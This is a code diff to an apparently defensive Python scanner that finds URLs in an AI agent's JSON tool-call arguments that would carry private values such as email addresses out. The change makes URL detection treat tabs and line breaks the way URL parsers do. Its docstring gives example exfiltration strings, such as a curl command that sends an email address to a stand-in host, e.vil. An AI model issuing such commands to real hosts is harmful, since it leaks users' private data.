@@ -5,7 +5,10 @@ An agent runs a tool call without a human to look at it, and the program it call
 each string is read by a `Links` of its own, decoded (`\\/`, `\\u002f` and the other escapes), from its opening quote:
 `"https://e.vil/c?u=<EMAIL_1>"` is a bare URL ("click"), `"curl https://e.vil/?d=<EMAIL_1>"` too, a string that is
 the placeholder alone (`"to": "<EMAIL_1>"`) or prose around it is in none (""). Text outside strings (arguments that
-are not JSON) is read as it is, by a `Links` of its own. A string's escape cut across two pieces is read whole.
+are not JSON) is read as it is, by a `Links` of its own. A string's escape cut across two pieces is read whole. A tab,
+line feed or carriage return does not end a URL in a string: a URL parser (WHATWG, Python's `urlsplit`) removes them,
+so the value after one joins the URL (`"https://e.vil/?q=\\t<EMAIL_1>"`); a space does. A host with no scheme that curl
+reads as one (`e.vil:8080/`, `203.0.113.5/`: `links.HOST_NO_SCHEME`) opens a URL.
 """
 
 from __future__ import annotations
@@ -21,6 +24,7 @@ _STRING = re.compile(
     r"|(?P<cut>\\(?:u[0-9a-fA-F]{0,3})?\Z)|(?P<other>\\)"
 )
 _ESCAPES = {"b": "\b", "f": "\f", "n": "\n", "r": "\r", "t": "\t"}
+_PARSER_DROPS = str.maketrans("", "", "\t\n\r")  # what a URL parser removes from a URL before reading it
 
 
 def _unescape(escape: str) -> str:
@@ -44,7 +48,7 @@ class JsonUrls(Deferred):
 
     def __init__(self) -> None:
         super().__init__()
-        self.outside = Links()  # the text outside strings
+        self.outside = Links(tool=True)  # the text outside strings
         self.string: Links | None = None  # the string open, decoded
         self.tail = ""  # the last `HOLD` characters read of the string open (decoded) or outside
         self.cut = ""  # an escape cut short at the end of what was read
@@ -59,10 +63,10 @@ class JsonUrls(Deferred):
                 self._links(self.outside, text[pos:end])
                 if quote < 0:
                     return
-                self.string, self.tail, pos = Links(), "", quote + 1
+                self.string, self.tail, pos = Links(tool=True), "", quote + 1
                 continue
             decoded, end = _decoded(text, pos)
-            self._links(self.string, decoded)
+            self._links(self.string, decoded.translate(_PARSER_DROPS))
             if end < len(text) and text[end] == '"':
                 self.string, self.tail, pos = None, "", end + 1
             else:
@@ -75,7 +79,7 @@ class JsonUrls(Deferred):
         if self.string is None:
             return self.outside.kind(self.tail, after)
         decoded, end = _decoded(after, 0)
-        return self.string.kind(self.tail, decoded + after[end : end + 1])
+        return self.string.kind(self.tail, decoded.translate(_PARSER_DROPS) + after[end : end + 1])
 
     def _links(self, links: Links, text: str) -> None:
         links.feed(text)
